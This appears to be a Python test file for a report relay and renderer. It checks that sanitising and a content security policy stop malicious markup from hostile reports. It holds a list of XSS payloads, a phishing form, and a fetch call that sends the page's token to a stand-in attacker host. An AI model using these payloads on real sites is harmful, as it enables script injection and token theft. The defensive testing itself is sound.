"""Reports that attack their reader, or the relay that renders them."""

from __future__ import annotations

import json
import threading
import time

from ...fakes.gateway import Gateway, Json
from ..browser import Page
from ..running import Api, ThreadedRelay
from .pages import answers, assert_clean, link, until_ready

ATTACKS = """
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>
<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe> <object data="javascript:hacked=5"></object>
<form action="https://evil.example/steal"><input name=token><button>Sign in again</button></form>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>body { display: none }</style> <link rel=stylesheet href="https://evil.example/x.css">
<a href="javascript:hacked=6" onclick="hacked=6">click</a> <!-- --><div id="state" name="cancel">

[a](javascript:window.hacked=7) [b](JaVaScRiPt:hacked=8) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)
[e](&#106;avascript:hacked=9) [f](java&Tab;script:hacked=10) [g](//evil.example) [h](#changes-the-token) [i](/docs)
[k]( <javascript:hacked=11> ) [l](blob:https://evil.example/1) [m](https:evil.example) <javascript:hacked=12>
[j](file:///etc/passwd) <data:text/html,x>
[n]: javascript:hacked=13 "title" onmouseover="hacked=14"
[n] [o](https://ok.example/"onmouseover="hacked=15) [p](https://ok.example/ "t\\" onmouseover=\\"hacked=16")
![img](https://evil.example/pixel.png) ![img](x "onerror=hacked=17") ![](data:image/svg+xml,<svg/onload=hacked=18>)
`<img src=x onerror=hacked=19>` **<img src=x onerror=hacked=20>** <mailto:a@ok.example>

```html" onmouseover="hacked=21
<script>hacked = 22</script>
```

| <img src=x onerror=hacked=23> | b |
|---|:-:|
| [x](javascript:hacked=24) | style |
"""


def test_a_report_that_attacks(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    sources = [
        ("javascript:window.hacked=30", "click me"),
        ('https://ok.example/"><script>hacked=31</script>', "<img src=x onerror=hacked=32>"),
        ("data:text/html,<script>hacked=33</script>", ""),
        ("https://user:password@ok.example/", "\u202egnp.exe"),
    ]
    answers(upstream, ATTACKS, *sources)
    started = relay.api.start("<img src=x onerror=hacked=40> </h1><script>hacked=41</script>")
    relay.api.wait(started)
    page.open(link(relay.api, started))
    until_ready(page)
    inside = "[...document.querySelectorAll('#report *, #sources *, h1 *')]"
    names = set(page.run(f"{inside}.map(e => e.localName)"))
    assert names <= {
        "a",
        "code",
        "em",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "h2",
        "strong",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    attributes = set(page.run(f"{inside}.flatMap(e => e.getAttributeNames())"))
    assert attributes <= {"class", "dir", "href", "id", "rel", "target", "title"}
    assert page.run("document.querySelectorAll('#report [id], #report [name]').length") == 0
    addresses = page.run("[...document.querySelectorAll('#report a, #sources a')].map(e => e.protocol + e.host)")
    assert set(addresses) == {"https:ok.example", "https:evil.example", "mailto:"}
    assert "Sign in again" in page.text("#report")  # harmless, as text
    page.run("document.querySelectorAll('#report *, #sources span').forEach(e => e.localName === 'a' || e.click())")
    assert page.run("window.hacked ?? 'untouched'") == "untouched"
    assert page.run("location.hash.slice(1)") == started["invocation_token"]
    assert_clean(page, relay.api, started["invocation_token"])


def test_the_policy_stops_what_would_get_into_the_page(relay: ThreadedRelay, page: Page) -> None:
    """The second line of defence, should the renderer ever let markup pass."""
    started = relay.api.start()
    relay.api.wait(started)
    page.open(link(relay.api, started))
    until_ready(page)
    page.run(
        """
        window.refused = [];
        addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
        document.querySelector('#report').innerHTML = `<img src=x onerror="hacked = 1"><p style="color: red">
            <img src="https://evil.example/pixel.png"><iframe src="https://evil.example/"></iframe>
            <object data="https://evil.example/"></object><link rel=stylesheet href="https://evil.example/x.css">`;
        document.head.append(Object.assign(document.createElement("script"), {text: "hacked = 2"}));
        fetch("https://evil.example/" + location.hash.slice(1)).catch(() => 0);
        document.body.insertAdjacentHTML("beforeend", `<form id=evil action="https://evil.example/"></form>`);
        document.querySelector("#evil").submit();
        """
    )
    wanted = [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "object-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    ]
    page.until(f"{json.dumps(wanted)}.every(one => refused.includes(one))")
    assert page.run("window.hacked ?? 'untouched'") == "untouched"


def test_two_megabytes_and_5000_sources(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
    text = "**word** <img src=x onerror=hacked=1> " * 54_000
    answers(upstream, text[:2_000_000], *((f"https://s{n}.example/{n}", f"Source {n}") for n in range(5000)))
    started = relay.api.start()
    kept = relay.api.wait(started)["sources"]  # the relay stores fewer
    assert len(kept) >= 1000
    page.open(link(relay.api, started))
    until_ready(page, 200)  # on a busy machine, the browser takes minutes to lay this out
    assert page.run("document.querySelectorAll('#sources li').length") == len(kept)
    assert page.run("document.querySelector('#text').textContent.length") == 2_000_000
    assert_clean(page, relay.api)


def test_the_relay_answers_while_it_renders(relay: ThreadedRelay, upstream: Gateway) -> None:
    answers(upstream, "[" * 200_000)
    started = relay.api.start()
    relay.api.wait(started)
    told: list[Json] = []

    def fetch() -> None:
        api = Api(relay.api.base_url)
        api.http.timeout = 200  # a report may take 5 s of processor time, which a busy machine hands out in minutes
        headers = {"X-Invocation-Token": started["invocation_token"]}
        told.append(api.call("GET", f"/runs/{started['invocation_id']}/report", headers=headers).json())
        api.http.close()

    readers = [threading.Thread(target=fetch) for _ in range(2)]
    for reader in readers:
        reader.start()
    answered = 0
    while len(told) < 2:
        began = time.monotonic()
        assert relay.api.call("GET", "/healthz").status_code == 200
        answered += time.monotonic() - began < 1
    for reader in readers:
        reader.join()
    assert [one["html"] for one in told] == [None, None]
    assert answered > 20
